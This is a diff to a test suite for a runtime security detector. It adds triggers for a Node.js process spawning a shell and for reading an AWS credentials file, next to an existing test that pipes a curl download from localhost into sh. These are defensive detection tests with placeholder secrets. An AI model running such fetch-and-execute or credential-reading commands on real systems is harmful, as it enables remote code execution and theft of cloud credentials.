@@ -12,7 +12,7 @@
  */
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { chmodSync, copyFileSync, existsSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import type { AlertSummary, RunSummary } from '../../src/report/summary.js';
@@ -281,6 +281,28 @@ const triggers: Trigger[] = [
     command: () => ['sh', '-c', 'curl -s http://127.0.0.1:9/install.sh | sh'],
     falco: null,
     harrier: { rule: 'Harrier Download Piped to Shell', fields: { 'proc.cmdline': /curl .*\| sh/ } },
+  },
+  {
+    name: 'a Node.js program runs a shell (child_process.execSync)',
+    command: () => ['node', '-e', "require('child_process').execSync('true')"],
+    falco: null,
+    harrier: {
+      rule: 'Harrier Shell Spawned by Node.js Application',
+      fields: { 'proc.name': 'sh', 'proc.pname': 'node', 'proc.cmdline': 'sh -c true' },
+    },
+  },
+  {
+    name: 'cat a ~/.aws/credentials file',
+    command: () => {
+      mkdirSync(join(dir, '.aws'), { recursive: true });
+      writeFileSync(join(dir, '.aws/credentials'), '[default]\naws_access_key_id = AKIAEXAMPLE\n');
+      return ['cat', join(dir, '.aws/credentials')];
+    },
+    falco: null,
+    harrier: {
+      rule: 'Harrier Cloud or Registry Credential Read',
+      fields: { 'fd.name': `${dir}/.aws/credentials`, 'proc.name': 'cat', 'evt.type': OPEN },
+    },
   },
   {
     name: 'apt-get install at test time (simulated)',
